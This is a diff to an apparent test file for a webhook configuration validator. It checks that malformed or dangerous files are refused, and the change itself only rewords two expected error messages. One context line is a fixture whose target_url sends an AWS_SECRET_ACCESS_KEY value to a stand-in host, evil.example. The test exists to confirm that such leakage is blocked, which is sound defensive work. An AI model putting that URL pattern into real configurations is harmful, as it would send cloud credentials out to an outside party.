@@ -98,8 +98,8 @@ it.each([
     small(hook(1, { target_url: `https://evil.example/${inFile('AWS_SECRET_ACCESS_KEY')}` })),
     'target_url names AWS_SECRET_ACCESS_KEY; variables begin with WEBHOOK_',
   ],
-  ['an unknown field', small(hook(1, { targt: 1 })), 'integrations.0.webhooks.0.targt: '],
-  ['no JSON', '{', 'The file: '],
+  ['an unknown field', small(hook(1, { targt: 1 })), '`integrations.0.webhooks.0.targt` is unknown.'],
+  ['no JSON', '{', 'The file is not JSON: '],
 ])('a file with %s is refused before anything changes', async (_what, content, reason) => {
   answerWith((method) => {
     throw new Error(`${method} was sent`);
